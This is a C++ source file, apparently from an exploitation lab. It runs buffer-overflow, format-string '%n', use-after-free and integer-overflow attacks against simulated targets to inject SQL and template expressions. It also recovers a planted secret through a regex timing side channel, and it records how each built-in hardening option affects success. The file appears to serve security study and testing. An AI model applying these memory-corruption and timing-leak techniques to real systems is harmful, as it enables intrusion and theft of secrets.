#include "wasmlab/exploits.hpp"

#include <algorithm>
#include <cmath>
#include <iomanip>
#include <random>
#include <sstream>

namespace wasmlab {

using json = nlohmann::json;

Bytes build_bof_payload(std::uint32_t fill_len, std::string_view inject) {
    if (std::uint64_t{fill_len} + inject.size() > kRequestCap)
        throw LabError(Errc::Size, "payload of " + std::to_string(std::uint64_t{fill_len} + inject.size()) +
                                       " bytes exceeds the request cap");
    Bytes out(fill_len, 'A');
    out.insert(out.end(), inject.begin(), inject.end());
    out.push_back(0);
    return out;
}

FormatWritePlan plan_format_write(std::uint32_t target_addr, ByteView payload) {
    if (std::uint64_t{target_addr} + payload.size() + kFormatScratch > kMemorySize)
        throw LabError(Errc::Size, "target plus scratch runs past linear memory");
    FormatWritePlan plan;
    plan.target_addr = target_addr;
    plan.target_bytes.assign(payload.begin(), payload.end());
    for (std::size_t i = 0; i < payload.size(); ++i) {
        std::uint32_t pad = payload[i];
        if (pad + 2 > kRequestCap) throw LabError(Errc::Size, "padding exceeds the request cap");
        FormatRequest req;
        req.format.assign(pad, 'A');
        req.format += "%n";
        req.varargs = {target_addr + static_cast<std::uint32_t>(i)};
        plan.requests.push_back(std::move(req));
    }
    return plan;
}

FormatWritePlan plan_format_write(std::uint32_t target_addr, std::string_view payload) {
    Bytes b = to_bytes(payload);
    return plan_format_write(target_addr, ByteView(b));
}

void execute_plan(const FormatWritePlan& plan, const FormatSink& sink) {
    for (const auto& r : plan.requests) sink(r);
}

UafOutcome groom_uaf(UafTarget& target, ByteView payload) {
    auto out = target.free_and_reallocate(payload);
    if (out.new_addr != out.freed_addr) {
        std::ostringstream msg;
        msg << "payload landed at 0x" << std::hex << out.new_addr << ", freed object was at 0x" << out.freed_addr;
        throw LabError(Errc::Groom, msg.str());
    }
    return out;
}

Bytes uaf_payload(std::string_view text, std::uint32_t chunk_size) {
    Bytes out = to_bytes(text);
    out.push_back(0);
    std::uint32_t floor = chunk_size > Allocator::kReuseSlack ? chunk_size - Allocator::kReuseSlack : 1;
    if (out.size() < floor) out.resize(floor, 0);
    return out;
}

std::string_view to_string(OracleMode m) { return m == OracleMode::Steps ? "steps" : "wallclock"; }

OracleMode parse_oracle_mode(std::string_view s) {
    if (s == "steps") return OracleMode::Steps;
    if (s == "wallclock" || s == "wall-clock" || s == "time") return OracleMode::WallClock;
    throw LabError(Errc::Usage, "unknown oracle mode '" + std::string(s) + "'");
}

namespace {

double median(std::vector<double> v) {
    std::sort(v.begin(), v.end());
    auto n = v.size();
    return n % 2 ? v[n / 2] : (v[n / 2 - 1] + v[n / 2]) / 2.0;
}

}  // namespace

std::vector<OracleDecision> decide(const std::vector<TimingSample>& samples, double threshold) {
    std::vector<char> order;
    for (const auto& s : samples)
        if (std::find(order.begin(), order.end(), s.guess) == order.end()) order.push_back(s.guess);
    std::vector<OracleDecision> out;
    for (char g : order) {
        std::vector<double> steps, nanos;
        bool all_steps = true;
        for (const auto& s : samples) {
            if (s.guess != g) continue;
            if (s.steps) steps.push_back(static_cast<double>(*s.steps));
            else all_steps = false;
            nanos.push_back(static_cast<double>(s.elapsed.count()));
        }
        OracleDecision d;
        d.guess = g;
        d.threshold = threshold;
        d.observable = all_steps ? median(steps) : median(nanos);
        d.verdict = d.observable >= threshold ? Verdict::Hit : Verdict::Miss;
        out.push_back(d);
    }
    return out;
}

std::string_view to_string(Gadget g) {
    switch (g) {
    case Gadget::Linear: return "linear";
    case Gadget::Nested: return "nested";
    case Gadget::NestedTrailing: return "nested-trailing";
    }
    return "?";
}

Gadget parse_gadget(std::string_view s) {
    if (s == "linear") return Gadget::Linear;
    if (s == "nested") return Gadget::Nested;
    if (s == "nested-trailing") return Gadget::NestedTrailing;
    throw LabError(Errc::Usage, "unknown gadget '" + std::string(s) + "'");
}

std::string gadget_pattern(Gadget g, std::string_view prefix) {
    std::string p = "^" + std::string(prefix);
    switch (g) {
    case Gadget::Linear: return p + "(.*){2048}";
    case Gadget::Nested: return p + "(.+){21}";
    case Gadget::NestedTrailing: return p + "(.+){21}!";
    }
    return p;
}

Calibration calibrate(Gadget gadget, OracleMode mode, std::uint32_t subject_len, std::uint32_t samples,
                      StepBudget budget) {
    if (subject_len < 2) throw LabError(Errc::Usage, "calibration subject needs at least 2 characters");
    if (samples == 0) throw LabError(Errc::Usage, "calibration needs at least one sample");
    std::mt19937 rng(0xca11b);
    std::uniform_int_distribution<std::size_t> pick(0, kDefaultAlphabet.size() - 1);
    std::string subject = "a";
    while (subject.size() < subject_len) subject.push_back(kDefaultAlphabet[pick(rng)]);

    Calibration cal;
    cal.mode = mode;
    cal.gadget = gadget;
    auto measure = [&](const std::string& label, char guess) {
        auto pattern = gadget_pattern(gadget, std::string(1, guess));
        std::vector<double> obs;
        for (std::uint32_t i = 0; i < samples; ++i) {
            auto start = std::chrono::steady_clock::now();
            auto m = match_steps(parse_regex(pattern), subject, budget);
            auto elapsed = std::chrono::steady_clock::now() - start;
            CalibrationRow row{label, pattern, m.steps, std::chrono::duration_cast<std::chrono::nanoseconds>(elapsed)};
            obs.push_back(mode == OracleMode::Steps ? static_cast<double>(row.steps)
                                                    : static_cast<double>(row.elapsed.count()));
            cal.rows.push_back(std::move(row));
        }
        return median(obs);
    };
    cal.hit = measure("hit", 'a');
    cal.miss = measure("miss", 'z');
    double miss = std::max(cal.miss, 1.0);
    cal.threshold = std::sqrt(cal.hit * miss);
    cal.ratio = cal.hit / miss;
    return cal;
}

std::string format_calibration_table(const Calibration& cal) {
    std::ostringstream out;
    out << std::left << std::setw(6) << "case" << std::setw(20) << "pattern" << std::right << std::setw(12)
        << "steps" << std::setw(14) << "elapsed_us" << "\n";
    for (const auto& r : cal.rows) {
        out << std::left << std::setw(6) << r.label << std::setw(20) << r.pattern << std::right << std::setw(12)
            << r.steps << std::setw(14) << std::fixed << std::setprecision(1)
            << static_cast<double>(r.elapsed.count()) / 1000.0 << "\n";
    }
    out << std::defaultfloat << std::setprecision(6);
    out << "mode " << to_string(cal.mode) << "  gadget " << to_string(cal.gadget) << "  hit " << cal.hit
        << "  miss " << cal.miss << "  ratio " << cal.ratio << "  threshold " << cal.threshold << "\n";
    return out.str();
}

PatternWriter bof_pattern_writer(XsleakScenario& s) {
    return [&s](const std::string& pattern) {
        Bytes data(layout::kSecretLen, 'B');
        data.insert(data.end(), pattern.begin(), pattern.end());
        data.push_back(0);
        s.store_secret(Requester::Victim, XsleakScenario::kLastSlot, data);
    };
}

PatternWriter uaf_pattern_writer(XsleakScenario& s) {
    return [&s](const std::string& pattern) { groom_uaf(s, uaf_payload(pattern, s.target_chunk_size())); };
}

ReconstructResult reconstruct_secret(XsleakScenario& s, const PatternWriter& write, const ReconstructOptions& opts) {
    if (opts.alphabet.empty()) throw LabError(Errc::Usage, "empty alphabet");
    if (opts.samples == 0) throw LabError(Errc::Usage, "samples must be positive");
    ReconstructResult res;
    while (res.recovered.size() < opts.max_len) {
        std::vector<char> hits;
        std::uint32_t samples = opts.samples;
        for (int attempt = 0; attempt < 2; ++attempt) {
            hits.clear();
            for (char c : opts.alphabet) {
                try {
                    write(gadget_pattern(opts.gadget, res.recovered + c));
                } catch (const LabError&) {
                    ++res.write_failures;
                }
                std::vector<TimingSample> batch;
                for (std::uint32_t i = 0; i < samples; ++i) {
                    auto env = s.search(Requester::Victim);
                    ++res.requests;
                    TimingSample t{c, env.elapsed, std::nullopt};
                    if (opts.mode == OracleMode::Steps) {
                        if (!env.steps) throw LabError(Errc::Usage, "steps oracle needs test mode responses");
                        t.steps = env.steps;
                    }
                    batch.push_back(t);
                }
                if (decide(batch, opts.threshold).front().verdict == Verdict::Hit) {
                    hits.push_back(c);
                    if (opts.mode == OracleMode::Steps) break;
                }
            }
            if (hits.size() <= 1 || opts.mode == OracleMode::Steps) break;
            samples *= 2;
        }
        if (hits.size() > 1)
            throw LabError(Errc::Ambiguous, std::to_string(hits.size()) + " candidates hit at position " +
                                                std::to_string(res.recovered.size()));
        if (hits.empty()) {
            if (res.recovered.size() >= opts.min_len) break;
            throw LabError(Errc::Exhausted, "no candidate hit at position " + std::to_string(res.recovered.size()));
        }
        res.recovered.push_back(hits.front());
    }
    return res;
}

json to_json(const ExploitReport& r) {
    json diff = json::array();
    for (const auto& d : r.memory_diff) diff.push_back({d.first, d.last});
    json evidence = r.evidence;
    evidence["memory_diff"] = diff;
    evidence["hardening"] = hardening_to_string(r.hardening);
    return json{{"scenario", to_string(r.scenario)},
                {"vector", to_string(r.vector)},
                {"hardened", r.hardening.any()},
                {"success", r.success},
                {"evidence", evidence},
                {"requests", r.requests}};
}

bool exploit_supported(Scenario s, Variant v) {
    switch (s) {
    case Scenario::Sqli: return true;
    case Scenario::Ssti: return v != Variant::Iof;
    case Scenario::Xsleak: return v == Variant::Bof || v == Variant::Uaf;
    }
    return false;
}

HardeningConfig designated_hardening(Scenario s, Variant v) {
    HardeningConfig h;
    switch (v) {
    case Variant::Bof: h.canaries = true; break;
    case Variant::Uaf: h.quarantine_and_zero = true; break;
    case Variant::Iof: h.boundary_validation = true; break;
    case Variant::Ufs:
        if (s == Scenario::Sqli) h.template_integrity = true;
        else h.boundary_validation = true;
        break;
    }
    return h;
}

namespace {

json rows_json(const QueryResult& r) {
    json rows = json::array();
    for (const auto& row : r.rows) {
        json out = json::array();
        for (const auto& v : row) {
            if (auto* i = std::get_if<std::int64_t>(&v)) out.push_back(*i);
            else out.push_back(std::get<std::string>(v));
        }
        rows.push_back(out);
    }
    return rows;
}

// Restricted account row, or the one-row constant projection.
bool sqli_leaked(const QueryResult& r) {
    if (r.rows.size() == 1 && r.rows[0].size() == 1 && r.rows[0][0] == Value{std::int64_t{1}}) return true;
    auto id = std::find(r.columns.begin(), r.columns.end(), "id");
    if (id == r.columns.end()) return false;
    auto col = static_cast<std::size_t>(id - r.columns.begin());
    return std::any_of(r.rows.begin(), r.rows.end(),
                       [&](const auto& row) { return row[col] == Value{std::int64_t{0}}; });
}

void note_error(json& ev, const LabError& e) {
    if (!ev.contains("error")) {
        ev["error"] = std::string(errc_name(e.code()));
        ev["error_detail"] = e.what();
    }
    if (auto* t = dynamic_cast<const TrapError*>(&e)) ev["trap_cause"] = std::string(errc_name(t->cause()));
}

void sqli_finish(SqliScenario& s, ExploitReport& r, std::optional<std::int64_t> id) {
    r.evidence["template"] = s.current_template();
    ++r.requests;
    try {
        auto result = s.lookup(id);
        r.evidence["rows"] = rows_json(result);
        r.success = sqli_leaked(result);
    } catch (const LabError& e) {
        note_error(r.evidence, e);
    }
}

void run_sqli(SqliScenario& s, ExploitReport& r) {
    switch (r.vector) {
    case Variant::Bof: {
        auto payload = build_bof_payload(layout::kTokenLen, "SELECT 1");
        r.evidence["payload"] = to_hex(payload);
        ++r.requests;
        try {
            s.set_token(payload);
        } catch (const LabError& e) {
            note_error(r.evidence, e);
        }
        sqli_finish(s, r, std::nullopt);
        break;
    }
    case Variant::Ufs: {
        auto plan = plan_format_write(s.query_addr(), std::string_view("SELECT 1\0", 9));
        r.evidence["format_requests"] = plan.requests.size();
        try {
            execute_plan(plan, [&](const FormatRequest& req) {
                ++r.requests;
                s.set_token(to_bytes(req.format), req.varargs);
            });
        } catch (const LabError& e) {
            note_error(r.evidence, e);
        }
        sqli_finish(s, r, std::nullopt);
        break;
    }
    case Variant::Uaf: {
        auto payload = uaf_payload("SELECT id, name, secret FROM users WHERE id = 0", s.target_chunk_size());
        ++r.requests;
        try {
            auto g = groom_uaf(s, payload);
            r.evidence["reused_addr"] = g.new_addr;
        } catch (const LabError& e) {
            note_error(r.evidence, e);
        }
        sqli_finish(s, r, std::nullopt);
        break;
    }
    case Variant::Iof: {
        constexpr std::int64_t id = std::int64_t{1} << 32;
        r.evidence["user_id"] = id;
        r.evidence["narrowed"] = narrow_to_i32(id);
        sqli_finish(s, r, id);
        break;
    }
    }
}

void ssti_finish(SstiScenario& s, ExploitReport& r, std::optional<Bytes> comment) {
    ++r.requests;
    try {
        auto page = s.page(std::move(comment));
        r.evidence["nonce"] = page.nonce;
        r.evidence["page"] = page.render.output;
        r.evidence["ace"] = page.render.ace_triggered;
        r.evidence["evaluated"] = page.render.evaluated_count;
        if (page.comment_addr) {
            r.evidence["nonce_addr"] = page.nonce_addr;
            r.evidence["comment_addr"] = *page.comment_addr;
            if (*page.comment_addr != page.nonce_addr && !r.evidence.contains("error"))
                r.evidence["error"] = std::string(errc_name(Errc::Groom));
        }
        bool evaluated49 = page.render.evaluated_count > 0 && page.render.output.find("49") != std::string::npos;
        r.success = evaluated49 || page.render.ace_triggered;
    } catch (const LabError& e) {
        note_error(r.evidence, e);
    }
}

void run_ssti(SstiScenario& s, ExploitReport& r) {
    constexpr std::string_view kInject = "#{7*7}";
    switch (r.vector) {
    case Variant::Bof:
        ssti_finish(s, r, build_bof_payload(layout::kCommentLen, kInject));
        break;
    case Variant::Ufs: {
        std::string target(kInject);
        target.push_back('\0');
        auto plan = plan_format_write(layout::kStaticNonce, target);
        r.evidence["format_requests"] = plan.requests.size();
        try {
            execute_plan(plan, [&](const FormatRequest& req) {
                ++r.requests;
                s.echo(to_bytes(req.format), req.varargs);
            });
        } catch (const LabError& e) {
            note_error(r.evidence, e);
        }
        ssti_finish(s, r, std::nullopt);
        break;
    }
    case Variant::Uaf:
        ssti_finish(s, r, uaf_payload(kInject, s.target_chunk_size()));
        break;
    case Variant::Iof:
        throw LabError(Errc::Unsupported, "ssti has no iof variant");
    }
}

void run_xsleak(XsleakScenario& s, ExploitReport& r, const ExploitOptions& opts) {
    ReconstructOptions ro;
    ro.alphabet = opts.alphabet;
    ro.mode = opts.mode;
    ro.samples = opts.samples ? opts.samples : (opts.mode == OracleMode::Steps ? 1 : 3);
    ro.gadget = Gadget::Linear;
    auto cal = calibrate(ro.gadget, ro.mode, static_cast<std::uint32_t>(s.planted_secret().size()), ro.samples,
                         s.config().budget);
    ro.threshold = cal.threshold;
    r.evidence["threshold"] = cal.threshold;
    r.evidence["calibration_ratio"] = cal.ratio;
    r.evidence["planted"] = s.planted_secret();
    auto writer = r.vector == Variant::Bof ? bof_pattern_writer(s) : uaf_pattern_writer(s);
    std::uint32_t writes = 0;
    PatternWriter counted = [&](const std::string& p) {
        ++writes;
        writer(p);
    };
    try {
        auto res = reconstruct_secret(s, counted, ro);
        r.evidence["recovered"] = res.recovered;
        r.evidence["search_requests"] = res.requests;
        r.evidence["write_failures"] = res.write_failures;
        r.requests = writes + res.requests;
        r.success = res.recovered == s.planted_secret();
    } catch (const LabError& e) {
        note_error(r.evidence, e);
        r.requests = writes;
    }
}

std::vector<ByteRange> memory_diff(ByteView before, ByteView after) {
    auto a = deserialize_snapshot(before);
    auto b = deserialize_snapshot(after);
    return diff_ranges(a.memory.view(), b.memory.view());
}

}  // namespace

ExploitReport run_exploit(Scenario s, Variant v, const HardeningConfig& h, const ExploitOptions& opts) {
    if (!exploit_supported(s, v))
        throw LabError(Errc::Unsupported, std::string(to_string(s)) + " x " + std::string(to_string(v)) +
                                              " is not implemented");
    ExploitReport r;
    r.scenario = s;
    r.vector = v;
    r.hardening = h;
    LabConfig cfg = opts.base;
    cfg.variant = v;
    cfg.hardening = h;
    switch (s) {
    case Scenario::Sqli: {
        SqliScenario sc(cfg);
        run_sqli(sc, r);
        r.memory_diff = memory_diff(sc.initial_snapshot(), sc.snapshot());
        break;
    }
    case Scenario::Ssti: {
        SstiScenario sc(cfg);
        run_ssti(sc, r);
        r.memory_diff = memory_diff(sc.initial_snapshot(), sc.snapshot());
        break;
    }
    case Scenario::Xsleak: {
        XsleakScenario sc(cfg);
        run_xsleak(sc, r, opts);
        r.memory_diff = memory_diff(sc.initial_snapshot(), sc.snapshot());
        break;
    }
    }
    return r;
}

}  // namespace wasmlab
